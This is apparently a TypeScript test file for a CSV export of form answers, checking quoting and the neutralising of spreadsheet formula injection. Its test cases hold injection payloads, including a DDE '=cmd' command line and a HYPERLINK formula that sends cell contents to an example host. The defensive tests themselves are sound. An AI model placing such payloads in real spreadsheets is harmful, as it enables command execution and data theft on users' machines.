import { describe, expect, it } from 'vitest';
import { answersCsv, harmlessCell } from '../../src/answers/answers-csv.ts';
import type { FilledCoupon } from '../../src/answers/filled-coupon.ts';
import type { Coupon } from '../../src/coupon/coupon.ts';
import { harmlessLines } from '../../src/problems/harmless.ts';
import { fc } from '../fixtures/seeded-fast-check.ts';

const field = { width: 12, required: false, lines: 1 };
const COUPON: Coupon = {
  title: 'Adhésion',
  rows: [
    [{ kind: 'text', name: 'nom', label: 'Nom', ...field }],
    [{ kind: 'fixed', text: 'Je souhaite :', width: 12 }],
    [{ kind: 'many-of', name: 'jours', label: 'Jours', choices: ['lundi', 'mardi'], ...field }],
    [{ kind: 'signature', name: 'signature', label: 'Signature', width: 12, required: false }],
  ],
};

function filled(nom: string, jours: readonly string[] = []): FilledCoupon {
  const answers = [
    { name: 'nom', values: nom === '' ? [] : [nom] },
    { name: 'jours', values: jours },
  ];
  return { file: 'recus/un.pdf', number: 3, answers };
}

/** RFC 4180, read by somebody else: strict about quotes and line endings. */
function parseCsv(text: string, separator: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let at = 0;
  while (at < text.length) {
    let cell = '';
    if (text[at] === '"') {
      for (at++; text[at] !== '"' || text[at + 1] === '"'; at++) {
        if (at >= text.length) throw new Error('a quote is not closed');
        cell += text[at];
        if (text[at] === '"') at++;
      }
      at++;
    } else {
      for (; at < text.length && text[at] !== separator && text[at] !== '\r'; at++) {
        if (text[at] === '"' || text[at] === '\n') throw new Error(`a bare ${JSON.stringify(text[at])}`);
        cell += text[at];
      }
    }
    row.push(cell);
    if (text[at] === separator) at++;
    else if (text.startsWith('\r\n', at)) {
      at += 2;
      rows.push(row);
      row = [];
    } else throw new Error(`a cell goes on after its end at ${at}`);
  }
  return rows;
}

/** What a reader takes away who knows the rule. */
function withoutApostrophes(cell: string): string {
  return cell
    .replace(/^'('*[\t\r\n])/, '$1')
    .replace(/(^|[,;"\t\r\n])'('*[ \u00a0\u202f\u200b\ufeff]*[=+\-@＝＋－＠])/g, '$1$2');
}

describe('the table', () => {
  it('has a byte-order mark, a header, and a row a coupon', () => {
    expect(answersCsv(COUPON, [filled('Jérôme "Jéjé" Łukasiewicz', ['lundi', 'mardi']), filled('')])).toBe(
      '\ufefffile,number,nom,jours\r\n' +
        'recus/un.pdf,3,"Jérôme ""Jéjé"" Łukasiewicz",lundi ; mardi\r\n' +
        'recus/un.pdf,3,,\r\n',
    );
  });

  it('has semicolons where they are asked for', () => {
    expect(answersCsv(COUPON, [filled('Dupont, J.', ['lundi', 'mardi'])], ';')).toBe(
      '\ufefffile;number;nom;jours\r\nrecus/un.pdf;3;Dupont, J.;"lundi ; mardi"\r\n',
    );
  });

  it.each([',', ';'] as const)(
    'gives back what was filled in, whatever it is, with what could drive a terminal made visible (separator %s)',
    (separator) => {
      const anything = fc.string({
        unit: fc.oneof(fc.constantFrom(...'",;=+-@\'\t\r\n\u2028\u200e ＝'), fc.string({ unit: 'grapheme' })),
      });
      fc.assert(
        fc.property(anything, fc.array(fc.constantFrom('lundi', 'mardi')), (nom, jours) => {
          const csv = answersCsv(COUPON, [filled(nom, jours), filled('fin')], separator);
          const [header, first, second] = parseCsv(csv.slice(1), separator);
          expect(header).toEqual(['file', 'number', 'nom', 'jours']);
          expect(first?.map(withoutApostrophes)).toEqual(['recus/un.pdf', '3', harmlessLines(nom), jours.join(' ; ')]);
          expect(second?.[2]).toBe('fin');
        }),
      );
    },
  );
});

describe('a cell that a spreadsheet could run', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ['=HYPERLINK("http://x.example/?"&A1)', `'=HYPERLINK("http://x.example/?"&A1)`],
    ['+33+cmd', "'+33+cmd"],
    ['-2+3', "'-2+3"],
    ['-A1', "'-A1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['@jerome', "'@jerome"],
    ['  =1', "'  =1"],
    ['\t=1', "'\t'=1"],
    ['\rx', "'\rx"],
    // In the full width of East Asian letters, which some programs take for the narrow ones.
    ['＝1', "'＝1"],
    ['＋A1', "'＋A1"],
    ['－A1', "'－A1"],
    ['＠SUM(A1)', "'＠SUM(A1)"],
    // Behind what some programs drop.
    ['\u00a0=1', "'\u00a0=1"],
    ['\u202f=1', "'\u202f=1"],
    ['\u200b=1', "'\u200b=1"],
    ['\ufeff=1', "'\ufeff=1"],
    ['x\t=1', "x\t'=1"],
    ['x\r=1', "x\r'=1"],
    // Programs that expect another separator than the file's see a cell begin here.
    ['x;=1', "x;'=1"],
    ['x, @y', "x,' @y"],
    ['x\n=1', "x\n'=1"],
    ['a","=1', `a","'=1`],
    ['+33-6-12', "'+33-6-12"],
    ["'=1", "''=1"],
  ])('%j gets an apostrophe: %j', (text, cell) => expect(harmlessCell(text)).toBe(cell));

  it.each([
    '+33 6 12 34 56 78',
    '+33612345678',
    '+33 (0)6.12.34.56.78',
    '-12,50 €',
    '-12.50',
    '-',
    'Jean-Pierre',
    'a@b.fr',
    '1 = 1',
    "'apostrophe",
    'lundi ; mardi',
  ])('%j stays as it is', (text) => expect(harmlessCell(text)).toBe(text));
});
